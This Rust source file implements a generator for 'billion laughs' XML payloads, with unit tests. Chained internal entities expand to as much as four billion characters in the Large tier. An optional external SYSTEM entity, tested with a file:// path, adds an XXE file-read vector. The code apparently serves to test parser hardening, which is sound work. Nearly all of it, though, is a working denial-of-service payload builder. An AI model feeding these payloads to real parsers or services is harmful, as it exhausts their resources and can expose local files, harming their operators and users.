//! "Billion laughs" payload generation
//!
//! A payload declares a chain of internal general entities in its DTD.
//! `lol` holds the base token and every following entity `lolN` is
//! `&lol(N-1);` repeated `fan_out` times, so the root of a chain of length N
//! expands to `fan_out^N` copies of the base token.
//!
//! Tiers are built in stages: Medium's text is Small's unreferenced
//! declarations plus three more levels, and Large extends Medium the same
//! way. The closing `]>` and the single body reference are only appended for
//! the tier actually requested.

use serde::{Deserialize, Serialize};
use strum::{Display, EnumIter, EnumString};

/// Number of references to the previous entity in each chain entity
pub const FAN_OUT: usize = 10;

/// Replacement text of the first entity in the chain
pub const BASE_TOKEN: &str = "lol1";

const ENTITY_PREFIX: &str = "lol";
const ROOT_ELEMENT: &str = "lolz";
const EXTERNAL_ENTITY: &str = "ext";

/// Severity of a payload, fixing the entity chain length
#[derive(
    Debug,
    Clone,
    Copy,
    PartialEq,
    Eq,
    Hash,
    PartialOrd,
    Ord,
    Serialize,
    Deserialize,
    Display,
    EnumString,
    EnumIter,
)]
#[serde(rename_all = "lowercase")]
#[strum(ascii_case_insensitive)]
pub enum SeverityTier {
    Small,
    Medium,
    Large,
}

impl SeverityTier {
    /// All tiers in canonical order
    pub const ALL: [SeverityTier; 3] = [SeverityTier::Small, SeverityTier::Medium, SeverityTier::Large];

    /// Number of chained entities above the base entity
    pub fn chain_length(self) -> u32 {
        match self {
            SeverityTier::Small => 3,
            SeverityTier::Medium => 6,
            SeverityTier::Large => 9,
        }
    }

    /// The tier whose unreferenced declarations this tier extends
    pub fn previous(self) -> Option<SeverityTier> {
        match self {
            SeverityTier::Small => None,
            SeverityTier::Medium => Some(SeverityTier::Small),
            SeverityTier::Large => Some(SeverityTier::Medium),
        }
    }
}

/// A generated XML document. Never mutated after creation.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Payload {
    tier: SeverityTier,
    text: String,
    declarations_len: usize,
    expanded_len: u64,
}

impl Payload {
    pub fn tier(&self) -> SeverityTier {
        self.tier
    }

    pub fn as_str(&self) -> &str {
        &self.text
    }

    pub fn as_bytes(&self) -> &[u8] {
        self.text.as_bytes()
    }

    pub fn len(&self) -> usize {
        self.text.len()
    }

    pub fn is_empty(&self) -> bool {
        self.text.is_empty()
    }

    /// The declaration text, i.e. everything before the closing `]>`
    pub fn declarations(&self) -> &str {
        &self.text[..self.declarations_len]
    }

    /// Text length a parser produces when it expands the whole chain.
    ///
    /// External entity content is not included.
    pub fn expanded_len(&self) -> u64 {
        self.expanded_len
    }
}

/// Payload generator. The default is the classic ten-way "lol" chain.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Generator {
    fan_out: usize,
    base_token: String,
    external: Option<String>,
}

impl Default for Generator {
    fn default() -> Self {
        Self {
            fan_out: FAN_OUT,
            base_token: BASE_TOKEN.to_string(),
            external: None,
        }
    }
}

impl Generator {
    pub fn new() -> Self {
        Self::default()
    }

    /// References per chain entity. Values below 1 are treated as 1.
    pub fn with_fan_out(mut self, fan_out: usize) -> Self {
        self.fan_out = fan_out.max(1);
        self
    }

    /// Replacement text of `lol`. Inserted verbatim, so it must not contain
    /// `"`, `&` or `%`.
    pub fn with_base_token<S: Into<String>>(mut self, base_token: S) -> Self {
        self.base_token = base_token.into();
        self
    }

    /// Declare an external entity with `system_id` and reference it once in
    /// the body, after the chain root
    pub fn with_external_entity<S: Into<String>>(mut self, system_id: S) -> Self {
        self.external = Some(system_id.into());
        self
    }

    pub fn fan_out(&self) -> usize {
        self.fan_out
    }

    pub fn base_token(&self) -> &str {
        &self.base_token
    }

    /// Build the complete document for `tier`
    pub fn generate(&self, tier: SeverityTier) -> Payload {
        let mut text = self.unreferenced(tier);
        let declarations_len = text.len();

        text.push_str(&format!(
            "\n]><{ROOT_ELEMENT}>&{};",
            entity_name(tier.chain_length())
        ));
        if self.external.is_some() {
            text.push_str(&format!("&{EXTERNAL_ENTITY};"));
        }
        text.push_str(&format!("</{ROOT_ELEMENT}>"));

        Payload {
            tier,
            text,
            declarations_len,
            expanded_len: self.expanded_len(tier),
        }
    }

    /// The open declaration text for `tier`: the DTD up to and including the
    /// last chain entity, with no closing markup and no body reference.
    /// Each tier's text starts with the previous tier's.
    pub fn unreferenced(&self, tier: SeverityTier) -> String {
        let (mut text, first_level) = match tier.previous() {
            Some(previous) => (self.unreferenced(previous), previous.chain_length() + 1),
            None => (self.prologue(), 1),
        };
        for level in first_level..=tier.chain_length() {
            self.push_level(&mut text, level);
        }
        text
    }

    /// `len(base_token) * fan_out^chain_length`, saturating
    pub fn expanded_len(&self, tier: SeverityTier) -> u64 {
        let fan_out = self.fan_out as u64;
        (0..tier.chain_length()).fold(self.base_token.len() as u64, |len, _| {
            len.saturating_mul(fan_out)
        })
    }

    fn prologue(&self) -> String {
        let mut text = String::from("<?xml version=\"1.0\"?>\n");
        text.push_str(&format!("<!DOCTYPE {ROOT_ELEMENT} [\n"));
        text.push_str(&format!(
            "<!ENTITY {ENTITY_PREFIX} \"{}\" >\n",
            self.base_token
        ));
        text.push_str(&format!("<!ELEMENT {ROOT_ELEMENT} (#PCDATA)>"));
        if let Some(system_id) = &self.external {
            text.push_str(&format!(
                "\n<!ENTITY {EXTERNAL_ENTITY} SYSTEM \"{system_id}\">"
            ));
        }
        text
    }

    fn push_level(&self, text: &mut String, level: u32) {
        let reference = format!("&{};", entity_name(level - 1));
        text.push_str(&format!("\n<!ENTITY {} \"", entity_name(level)));
        for _ in 0..self.fan_out {
            text.push_str(&reference);
        }
        text.push_str("\">");
    }
}

fn entity_name(level: u32) -> String {
    if level == 0 {
        ENTITY_PREFIX.to_string()
    } else {
        format!("{ENTITY_PREFIX}{level}")
    }
}

/// Generate the default payload for `tier`
pub fn generate(tier: SeverityTier) -> Payload {
    Generator::default().generate(tier)
}

/// Default unreferenced declaration text for `tier`
pub fn generate_unreferenced(tier: SeverityTier) -> String {
    Generator::default().unreferenced(tier)
}

#[cfg(test)]
mod tests {
    use super::*;
    use strum::IntoEnumIterator;

    #[test]
    fn small_payload_text() {
        insta::assert_snapshot!(generate(SeverityTier::Small).as_str(), @r#"
        <?xml version="1.0"?>
        <!DOCTYPE lolz [
        <!ENTITY lol "lol1" >
        <!ELEMENT lolz (#PCDATA)>
        <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
        <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
        <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
        ]><lolz>&lol3;</lolz>
        "#);
    }

    #[test]
    fn generation_is_deterministic() {
        for tier in SeverityTier::iter() {
            assert_eq!(generate(tier).as_bytes(), generate(tier).as_bytes());
            assert_eq!(generate_unreferenced(tier), generate_unreferenced(tier));
        }
    }

    #[test]
    fn tiers_extend_previous_declarations() {
        let small = generate_unreferenced(SeverityTier::Small);
        let medium = generate(SeverityTier::Medium);
        let large = generate(SeverityTier::Large);

        assert!(medium.declarations().starts_with(&small));
        assert!(medium.as_str().starts_with(&small));
        assert!(large
            .declarations()
            .starts_with(&generate_unreferenced(SeverityTier::Medium)));
        assert_eq!(
            generate(SeverityTier::Small).declarations(),
            generate_unreferenced(SeverityTier::Small)
        );
    }

    #[test]
    fn chain_length_matches_tier() {
        for tier in SeverityTier::iter() {
            let payload = generate(tier);
            let declared = payload.as_str().matches("<!ENTITY ").count() as u32;
            assert_eq!(declared, tier.chain_length() + 1, "{tier}");

            let root = format!("&lol{};", tier.chain_length());
            let body = &payload.as_str()[payload.declarations().len()..];
            assert_eq!(body, format!("\n]><lolz>{root}</lolz>"));
            assert!(!payload.declarations().contains(&root));
        }
    }

    #[test]
    fn unreferenced_text_has_no_closing_markup() {
        for tier in SeverityTier::iter() {
            let text = generate_unreferenced(tier);
            assert!(!text.contains("]>"));
            assert!(text.ends_with("\">"));
        }
    }

    #[test]
    fn expanded_sizes() {
        assert_eq!(generate(SeverityTier::Small).expanded_len(), 4_000);
        assert_eq!(generate(SeverityTier::Medium).expanded_len(), 4_000_000);
        assert_eq!(generate(SeverityTier::Large).expanded_len(), 4_000_000_000);
    }

    #[test]
    fn custom_generator() {
        let generator = Generator::new().with_fan_out(2).with_base_token("ha");
        let payload = generator.generate(SeverityTier::Small);
        assert_eq!(payload.expanded_len(), 2 * 8);
        assert!(payload
            .as_str()
            .contains("<!ENTITY lol3 \"&lol2;&lol2;\">"));
        assert_eq!(Generator::new().with_fan_out(0).fan_out(), 1);
    }

    #[test]
    fn expanded_len_saturates() {
        let generator = Generator::new().with_fan_out(usize::MAX);
        assert_eq!(generator.expanded_len(SeverityTier::Large), u64::MAX);
    }

    #[test]
    fn external_entity_extension() {
        let payload = Generator::new()
            .with_external_entity("file:///tmp/ext.txt")
            .generate(SeverityTier::Small);
        assert!(payload
            .declarations()
            .contains("<!ENTITY ext SYSTEM \"file:///tmp/ext.txt\">"));
        assert!(payload.as_str().ends_with("]><lolz>&lol3;&ext;</lolz>"));
        assert_eq!(payload.expanded_len(), 4_000);
    }

    #[test]
    fn tier_labels() {
        assert_eq!(SeverityTier::Medium.to_string(), "Medium");
        assert_eq!("large".parse::<SeverityTier>().unwrap(), SeverityTier::Large);
        assert_eq!(SeverityTier::iter().collect::<Vec<_>>(), SeverityTier::ALL);
        assert!(SeverityTier::Small < SeverityTier::Large);
    }
}
